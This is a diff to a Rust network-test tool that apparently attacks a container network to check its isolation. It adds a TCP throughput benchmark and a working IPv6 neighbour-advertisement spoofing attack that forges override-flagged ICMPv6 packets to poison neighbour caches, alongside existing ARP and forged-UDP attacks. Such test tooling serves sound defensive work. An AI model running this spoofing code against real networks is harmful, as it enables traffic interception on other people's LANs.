@@ -1,5 +1,6 @@
 #![forbid(unsafe_code)]
-//! `palisade-netprobe`: the attacks of the network tests, run from inside a container that
+//! `palisade-netprobe`: the attacks of the network tests (and a TCP throughput probe for the
+//! benchmark), run from inside a container that
 //! was given CAP_NET_RAW on purpose. Each subcommand forges raw Ethernet frames on a packet
 //! socket (or listens on one) and prints one JSON line saying what it did or saw; whether the
 //! attack worked is judged from outside (ARP caches, the bridge's forwarding table, what a
@@ -42,6 +43,20 @@ enum Attack {
         #[arg(long, default_value_t = 20)]
         count: u32,
     },
+    /// Unsolicited IPv6 neighbour advertisements (override set) claiming TARGET_IP is at
+    /// this interface's MAC, from SRC_IP to DST_IP / DST_MAC (IPv6's ARP poisoning)
+    Na {
+        #[arg(long)]
+        src_ip: std::net::Ipv6Addr,
+        #[arg(long)]
+        dst_ip: std::net::Ipv6Addr,
+        #[arg(long)]
+        dst_mac: String,
+        #[arg(long)]
+        target_ip: std::net::Ipv6Addr,
+        #[arg(long, default_value_t = 20)]
+        count: u32,
+    },
     /// UDP datagrams with a chosen (forged) source MAC and IPv4 address
     Udp {
         #[arg(long)]
@@ -77,6 +92,19 @@ enum Attack {
         #[arg(long)]
         mac: String,
         #[arg(long, default_value_t = 3)]
+        seconds: u64,
+    },
+    /// Throughput benchmark, receiving side: accepts one TCP connection on PORT and reads
+    /// until it closes
+    TcpSink {
+        #[arg(long)]
+        port: u16,
+    },
+    /// Throughput benchmark, sending side: writes to ADDRESS for SECONDS
+    TcpSource {
+        #[arg(long)]
+        to: std::net::SocketAddr,
+        #[arg(long, default_value_t = 5)]
         seconds: u64,
     },
 }
@@ -188,6 +216,35 @@ fn udp_packet(src: Ipv4Addr, dst: Ipv4Addr, port: u16, payload: &[u8]) -> Vec<u8
     ip
 }
 
+/// An IPv6 packet carrying an ICMPv6 neighbour advertisement for `target` with a target
+/// link-layer option of `mac` (solicited flag clear, override set), hop limit 255.
+fn neighbour_advert(
+    src: std::net::Ipv6Addr,
+    dst: std::net::Ipv6Addr,
+    target: std::net::Ipv6Addr,
+    mac: [u8; 6],
+) -> Vec<u8> {
+    let mut icmp = vec![136, 0, 0, 0, 0x20, 0, 0, 0];
+    icmp.extend_from_slice(&target.octets());
+    icmp.extend_from_slice(&[2, 1]);
+    icmp.extend_from_slice(&mac);
+    let mut pseudo = Vec::new();
+    pseudo.extend_from_slice(&src.octets());
+    pseudo.extend_from_slice(&dst.octets());
+    pseudo.extend_from_slice(&(icmp.len() as u32).to_be_bytes());
+    pseudo.extend_from_slice(&[0, 0, 0, 58]);
+    pseudo.extend_from_slice(&icmp);
+    let sum = checksum(&pseudo);
+    icmp[2..4].copy_from_slice(&sum.to_be_bytes());
+    let mut packet = vec![0x60, 0, 0, 0];
+    packet.extend_from_slice(&(icmp.len() as u16).to_be_bytes());
+    packet.extend_from_slice(&[58, 255]);
+    packet.extend_from_slice(&src.octets());
+    packet.extend_from_slice(&dst.octets());
+    packet.extend_from_slice(&icmp);
+    packet
+}
+
 fn send(socket: &OwnedFd, frame: &[u8]) -> anyhow::Result<()> {
     rustix::net::send(socket, frame, SendFlags::empty()).context("send a frame")?;
     Ok(())
@@ -228,7 +285,43 @@ fn count_frames(
     Ok(seen)
 }
 
+fn throughput(bytes: u64, elapsed: Duration) -> serde_json::Value {
+    let seconds = elapsed.as_secs_f64().max(1e-9);
+    json!({"bytes": bytes, "seconds": seconds, "gbit_per_s": bytes as f64 * 8.0 / seconds / 1e9})
+}
+
 fn run(cli: &Cli) -> anyhow::Result<serde_json::Value> {
+    use std::io::{Read, Write};
+    match &cli.attack {
+        Attack::TcpSink { port } => {
+            let listener = std::net::TcpListener::bind(("0.0.0.0", *port))?;
+            let (mut stream, _) = listener.accept()?;
+            let start = Instant::now();
+            let mut buffer = vec![0u8; 1 << 20];
+            let mut total = 0u64;
+            loop {
+                let n = stream.read(&mut buffer)?;
+                if n == 0 {
+                    break;
+                }
+                total += n as u64;
+            }
+            return Ok(throughput(total, start.elapsed()));
+        }
+        Attack::TcpSource { to, seconds } => {
+            let mut stream = std::net::TcpStream::connect_timeout(to, Duration::from_secs(5))?;
+            let buffer = vec![0x5au8; 1 << 20];
+            let start = Instant::now();
+            let mut total = 0u64;
+            while start.elapsed() < Duration::from_secs(*seconds) {
+                stream.write_all(&buffer)?;
+                total += buffer.len() as u64;
+            }
+            drop(stream);
+            return Ok(throughput(total, start.elapsed()));
+        }
+        _ => {}
+    }
     let socket = open(&cli.interface)?;
     match &cli.attack {
         Attack::Arp {
@@ -251,6 +344,22 @@ fn run(cli: &Cli) -> anyhow::Result<serde_json::Value> {
                 std::thread::sleep(Duration::from_millis(100));
             }
             Ok(json!({"attack": "arp", "sent": count}))
+        }
+        Attack::Na {
+            src_ip,
+            dst_ip,
+            dst_mac,
+            target_ip,
+            count,
+        } => {
+            let own = own_mac(&cli.interface)?;
+            let packet = neighbour_advert(*src_ip, *dst_ip, *target_ip, own);
+            let frame = ethernet(parse_mac(dst_mac)?, own, 0x86dd, &packet);
+            for _ in 0..*count {
+                send(&socket, &frame)?;
+                std::thread::sleep(Duration::from_millis(100));
+            }
+            Ok(json!({"attack": "na", "sent": count}))
         }
         Attack::Udp {
             src_mac,
@@ -321,5 +430,6 @@ fn run(cli: &Cli) -> anyhow::Result<serde_json::Value> {
             )?;
             Ok(json!({"attack": "sniff", "frames": seen}))
         }
+        Attack::TcpSink { .. } | Attack::TcpSource { .. } => bail!("handled above"),
     }
 }
